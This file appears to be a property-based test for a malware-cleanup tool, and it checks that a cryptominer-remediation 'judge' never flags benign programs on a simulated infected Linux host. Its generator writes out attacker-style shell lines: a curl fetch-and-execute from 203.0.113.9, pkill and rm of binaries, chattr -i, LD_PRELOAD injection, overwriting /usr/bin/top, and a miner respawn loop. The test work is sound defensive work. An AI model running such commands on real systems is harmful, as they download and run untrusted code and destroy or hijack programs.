import fc from 'fast-check';
import { expect, test } from 'vitest';
import { labContext, POOL } from '../../../test/shared/infected-snapshot.ts';
import {
  autostart,
  cleanSnapshot,
  crontab,
  elf,
  file,
  process,
  socket,
} from '../../../test/shared/snapshots.ts';
import { isUnder } from '../../linux/paths.ts';
import type { Snapshot } from '../../snapshot.ts';
import { judge } from '../index.ts';

/** Programs of the host that have nothing to do with the miner, wherever people put such things. */
const STRANGERS = [
  '/opt/agent/agentd',
  '/tmp/build-4711/compile',
  '/run/payments/daemon.sh',
  '/dev/shm/cache/warm',
  '/home/dev/.local/bin/tool',
  '/srv/.hidden/app',
  '/usr/local/bin/backup',
];
const SCRIPTS = new Set(['/run/payments/daemon.sh']);
const UNITS = ['payments.service', 'agent.service'];

const stranger = fc.constantFrom(...STRANGERS);
const unit = fc.constantFrom(...UNITS);
/** Whatever an attacker may write of strangers. */
const line = fc.oneof(
  stranger.map((path) => `pkill -9 -f ${path}`),
  stranger.map((path) => `test -x ${path} && rm -f ${path}`),
  stranger.map((path) => `if [ -f ${path} ]; then chattr -i ${path}; fi`),
  stranger.map((path) => `ps aux | grep ${path} | grep -v grep | awk '{print $2}' | xargs kill -9`),
  stranger.map((path) => `${path} --now &`),
  stranger.map((path) => `nohup sh ${path} >/dev/null 2>&1 &`),
  stranger.map((path) => `cp ${path} /tmp/x; /tmp/x`),
  stranger.map((path) => `curl -fsSL http://203.0.113.9:8443/x -o ${path} && chmod +x ${path} && ${path}`),
  stranger.map(
    (path) =>
      `D=${path.slice(0, path.lastIndexOf('/'))}; cd $D && ./${path.slice(path.lastIndexOf('/') + 1)}`,
  ),
  stranger.map((path) => `LD_PRELOAD=${path} /bin/true`),
  stranger.map((path) => `ln -sf ${path} /usr/bin/top`),
  unit.map((name) => `systemctl restart ${name}; systemctl disable ${name}`),
  fc.constantFrom(
    '/tmp/.k/m -q &',
    'cd /tmp/.k; ./m',
    'while :; do pgrep m || /tmp/.k/m; sleep 5; done',
    'sleep 3',
    '# nothing',
  ),
);

function hostOf(loader: readonly string[], cron: readonly string[], runs: boolean): Snapshot {
  const clean = cleanSnapshot();
  const strangers = STRANGERS.map((path, at) =>
    SCRIPTS.has(path)
      ? process({
          pid: 500 + at,
          exe: '/usr/bin/dash',
          argv: ['sh', path],
          cgroup: '/system.slice/payments.service',
        })
      : process({ pid: 500 + at, exe: path, image: { package: null } }),
  );
  const infection = [
    process({ pid: 900, exe: '/tmp/.k/m', argv: ['/tmp/.k/m', '-o', `stratum+tcp://${POOL}:3333`] }),
    ...(runs ? [process({ pid: 901, exe: '/usr/bin/dash', argv: ['sh', '/tmp/.k/i.sh'] })] : []),
  ];
  return cleanSnapshot({
    processes: [...clean.processes, ...strangers, ...infection],
    sockets: [...clean.sockets, socket([900], POOL, 3333)],
    files: [
      elf('/tmp/.k/m', 'mining.subscribe mining.authorize'),
      file('/tmp/.k/i.sh', `#!/bin/sh\n${loader.join('\n')}\n`),
      ...STRANGERS.map((path) => (SCRIPTS.has(path) ? file(path, '#!/bin/sh\npsql -c x\n') : elf(path))),
    ],
    cronFiles: [
      crontab(
        '/var/spool/cron/crontabs/root',
        cron.map((command) => `*/5 * * * * ${command}`),
      ),
    ],
    persistence: UNITS.map((name) =>
      autostart(`/etc/systemd/system/${name}`, '[Service]\nExecStart=/opt/agent/agentd\n'),
    ),
  });
}

test('whatever the attacker writes of strangers, none of them is ever ticked, nor is their unit', () => {
  fc.assert(
    fc.property(
      fc.array(line, { maxLength: 8 }),
      fc.array(line, { maxLength: 3 }),
      fc.boolean(),
      (loader, cron, runs) => {
        const { links } = judge(hostOf(loader, cron, runs), labContext);
        const pids = links.processes
          .filter((one) => one.selected && one.pid >= 500 && one.pid < 600)
          .map((one) => one.pid);
        const paths = [...links.files, ...links.persistence]
          .filter((one) => one.selected && !isUnder(one.path, '/tmp/.k'))
          .map((one) => one.path);
        const covered = links.covered.filter(({ pid }) => pid >= 500 && pid < 600);
        expect({ pids, paths, covered }).toEqual({ pids: [], paths: [], covered: [] });
        // A line that starts a stranger too is never ticked.
        for (const { number, selected } of links.cronLines)
          if (selected)
            expect(
              STRANGERS.some((path) => startsIt(cron[number - 1] ?? '', path)),
              cron[number - 1],
            ).toBe(false);
        expect(links.processes.find((one) => one.pid === 900)?.selected).toBe(true);
      },
    ),
    { numRuns: 300 },
  );
});

/** The lines above that run a stranger's program as it stands there. */
const startsIt = (command: string, path: string): boolean =>
  command.startsWith(`${path} --now`) ||
  command.startsWith(`nohup sh ${path}`) ||
  command.startsWith(`LD_PRELOAD=${path}`);
